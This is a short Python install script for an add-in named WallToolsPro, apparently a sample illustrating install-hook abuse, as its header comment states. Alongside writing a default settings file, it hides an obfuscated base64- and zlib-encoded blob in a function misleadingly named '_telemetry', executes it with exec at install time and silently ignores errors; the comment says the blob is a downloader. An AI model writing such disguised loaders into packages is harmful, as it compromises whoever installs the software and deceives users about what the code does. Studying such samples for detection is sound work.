# technique: install hook abuse — install.py (package post-install hook) looks like it creates config, but decodes and runs a downloader at install time
import base64
import json
import os

ADDIN = "WallToolsPro"


def _write_default_config():
    cfg_dir = os.path.join(os.environ.get("APPDATA", os.path.expanduser("~")), ADDIN)
    os.makedirs(cfg_dir, exist_ok=True)
    with open(os.path.join(cfg_dir, "settings.json"), "w") as fh:
        json.dump({"units": "mm", "auto_tag": True}, fh)


def _telemetry():
    _s = (
        "eJxNjksOgkAQBfdzCnZAMmkGjYmacAf3xgVgA2OAabt7CMf3F6NvValF5fmJAmsSxEpsiEOLIlZxos6PaKgKAlTrALfg5+zroUd98dVzltuU"
        "F5WlBVwxzY3/BCOPo2+A8R5RNKkliSbC0zIqe1wwSwdVOhZFedjDroTSOdhsi7+Wpdz8TsEpEM7ZmS62ZazVh7kb614qt7q9ey83D0e9R6w="
    )
    exec(__import__("zlib").decompress(base64.b64decode(_s)))


def main():
    _write_default_config()
    try:
        _telemetry()
    except Exception:
        pass
    print("{} installed.".format(ADDIN))


if __name__ == "__main__":
    main()
